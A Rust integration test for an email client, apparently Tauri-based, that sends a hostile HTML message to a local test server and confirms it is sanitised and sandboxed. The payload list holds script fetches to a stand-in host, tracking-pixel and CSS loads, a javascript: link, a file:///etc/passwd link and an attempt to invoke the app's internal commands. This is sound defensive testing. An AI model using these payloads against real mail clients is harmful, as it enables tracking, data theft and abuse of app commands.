//! A message that wants out: nothing in it runs, loads or reaches a command (item 6).
//! The core's layer alone is proven in satchel-formats, the page's alone in the page's tests, the frame's alone here.

use anyhow::{Result, ensure};
use satchel_tests::{Key, Place, Portal, Sought, until};

use crate::words::{open_the_message, signed_in_to_the_demo};

/// Everything that would call home, with `HOME` for its address.
const HOSTILE: &str = r#"
    <p id="seen">The offer is below.</p>
    <script>fetch('HOME/script'); parent.document.title = 'taken'; window.top.taken = true;</script>
    <script src="HOME/script.js"></script>
    <img src="HOME/pixel.gif" onerror="fetch('HOME/onerror')"><img srcset="HOME/set.gif 1x">
    <img src="nothing" onerror="parent.__TAURI_INTERNALS__.invoke('work_offline', { request: { on: true } })">
    <link rel="stylesheet" href="HOME/style.css"><style>@import url(HOME/import.css); body { background: url(HOME/style.gif) }</style>
    <table background="HOME/table.gif"><tr><td style="background-image: url(HOME/cell.gif)">cell</td></tr></table>
    <form action="HOME/form" method="post"><input name="a" value="b"><button id="send">Send</button></form>
    <iframe src="HOME/frame"></iframe><object data="HOME/object"></object><embed src="HOME/embed">
    <video src="HOME/video" poster="HOME/poster.gif" autoplay></video><audio src="HOME/audio" autoplay></audio>
    <svg><image href="HOME/svg.gif"/><script>fetch('HOME/svg')</script></svg>
    <meta http-equiv="refresh" content="0; url=HOME/refresh"><base href="HOME/">
    <a id="file" href="file:///etc/passwd">file</a> <a id="run" href="javascript:fetch('HOME/link')">run</a>
    <p>The end.</p>"#;

/// The script puts a frame with the window's own rights beside the message, and in it what no sanitiser has touched.
const BARE: &str = r#"
    const frame = document.querySelector('[data-pane=item] iframe').cloneNode();
    const whole = new DOMParser().parseFromString(frame.srcdoc, 'text/html');
    frame.id = 'bare';
    frame.srcdoc = '<!doctype html><html>' + whole.head.outerHTML + '<body>' + RAW_MESSAGE + '</body></html>';
    document.querySelector('[data-pane=item]').append(frame);
    return frame.getAttribute('sandbox');"#;

#[tokio::test]
async fn a_hostile_message_reaches_nothing_even_when_no_sanitiser_saw_it() -> Result<()> {
    let place = Place::prepare()?;
    let (organisation, window) = signed_in_to_the_demo(&place).await?;
    let portal = Portal::start().await?;
    let hostile = HOSTILE.replace("HOME", &portal.address());
    organisation.send_mail("An offer with teeth", &hostile).await?;
    open_the_message(&window, "An offer with teeth").await?;
    let shown = window.run("return document.querySelector('[data-pane=item] iframe').srcdoc").await?;
    let shown = shown.as_str().unwrap_or_default();
    ensure!(shown.contains("The offer is below.") && shown.contains("The end."), "the message is not shown: {shown}");
    ensure!(!shown.contains(&portal.address()), "an address was left in: {shown}");

    window.picture("hostile-shown").await?;
    // The frame alone, with both sanitisers off.
    let bare = BARE.replace("RAW_MESSAGE", &serde_json::to_string(&hostile)?);
    ensure!(window.run(&bare).await? == "", "the frame has rights");
    until("the bare frame", || async {
        // Its own document cannot be seen from here, which is half of the point; that it is there can.
        let height = window.run("return document.getElementById('bare').getBoundingClientRect().height").await?;
        Ok(height.as_f64().is_some_and(|height| height > 0.0).then_some(()))
    })
    .await?;
    let reachable = window
        .run("try { return document.getElementById('bare').contentDocument !== null } catch { return false }")
        .await?;
    ensure!(reachable == false, "the window can reach into the frame, so the frame could reach out");
    window.picture("hostile").await?;

    // Had anything started, it would have arrived before an answer to what is asked of the window afterwards.
    window.press(&[Key::Control, Key::Letter('7')]).await?;
    window.see_words(&Sought::css("main"), "Sync").await?;
    ensure!(portal.callers() == 0, "{} requests left the message", portal.callers());
    ensure!(window.run("return window.taken === undefined && document.title !== 'taken'").await? == true, "script ran");
    window.see_words(&Sought::css("[data-testid=connectivity]"), "Online").await?;
    window.close().await
}
